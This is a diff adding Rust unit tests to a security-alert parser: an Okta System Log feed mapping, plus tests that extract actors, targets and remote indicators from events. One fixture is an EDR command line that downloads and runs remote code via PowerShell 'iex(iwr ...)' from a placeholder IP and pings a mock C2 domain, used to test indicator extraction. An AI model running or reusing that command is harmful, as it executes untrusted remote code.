@@ -2,6 +2,9 @@
 
 use std::collections::BTreeMap;
 
+use insta::assert_snapshot;
+
+use super::bases::with_roles;
 use super::wrapping::{Wrap, wrap};
 use super::*;
 use crate::feed::{GenericFeed, SeverityRule};
@@ -360,4 +363,68 @@ fn placeholders_and_ports_are_no_part_of_a_name() {
         .collect();
     assert_eq!(values, ["web-1"]);
     assert!(alert.unreadable.is_empty());
+}
+
+/// Okta's System Log, whose `target` is a list of whatever it was done to.
+fn okta() -> GenericFeed {
+    let fields = [
+        ("id", "/uuid"),
+        ("type", "/eventType"),
+        ("action", "/eventType"),
+        ("title", "/displayMessage"),
+        ("principal", "/actor/alternateId"),
+        ("actor_ip", "/client/ipAddress"),
+        ("target_user", "/target/[type=User]/alternateId"),
+    ];
+    feed("okta", "/uuid", &fields)
+}
+
+#[test]
+fn user_whom_it_was_done_to_is_a_target() {
+    let event = json!({"uuid": "o1", "eventType": "user.mfa.factor.reset_all", "displayMessage": "Reset all factors for user",
+        "actor": {"alternateId": "helpdesk@corp.example"}, "client": {"ipAddress": "203.0.113.12"},
+        "target": [{"type": "AppInstance", "alternateId": "Console"}, {"type": "User", "alternateId": "dana@corp.example"}]});
+    let alert = &read_with(&okta(), &event).alerts[0];
+    assert_snapshot!(with_roles(alert, &[Role::Actor, Role::Target]), @"
+    actor ip 203.0.113.12
+    target principal dana@corp.example
+    actor principal helpdesk@corp.example
+    ");
+    assert_eq!(
+        alert.what_happened(),
+        r#"Okta reports: "Reset all factors for user" by helpdesk@corp.example from 203.0.113.12 on dana@corp.example."#
+    );
+}
+
+#[test]
+fn product_that_tells_of_a_threat_did_not_act() {
+    let of = |kind: &str, actor: &str| {
+        let event = json!({"uuid": "o1", "eventType": kind, "actor": {"alternateId": actor}});
+        with_roles(&read_with(&okta(), &event).alerts[0], &[Role::Actor])
+    };
+    assert_eq!(of("security.threat.detected", "unknown"), "");
+    let event = json!({"uuid": "o1", "eventType": "security.threat.detected", "displayMessage": "Request from suspicious actor",
+        "actor": {"alternateId": "system@okta.com"}, "client": {"ipAddress": "203.0.113.12"}});
+    assert_eq!(
+        read_with(&okta(), &event).alerts[0].what_happened(),
+        r#"Okta reports: "Request from suspicious actor" by 203.0.113.12."#
+    );
+    assert_eq!(of("security.threat.detected", "system@okta.com"), "");
+    let somebody = "actor principal system@okta.com";
+    assert_eq!(of("user.lifecycle.create", "system@okta.com"), somebody);
+}
+
+#[test]
+fn command_line_names_what_the_program_talks_to() {
+    let feed = feed(
+        "edr",
+        "/id",
+        &[("id", "/id"), ("type", "/id"), ("command_line", "/cmdline")],
+    );
+    let event = json!({"id": "e1", "cmdline": "powershell -nop iex(iwr http://203.0.113.9/a); ping c2.evil-lab.com"});
+    assert_snapshot!(with_roles(&read_with(&feed, &event).alerts[0], &[Role::Related, Role::Remote]), @"
+    related ip 203.0.113.9
+    related domain c2.evil-lab.com
+    related url http://203.0.113.9/a
+    ");
 }
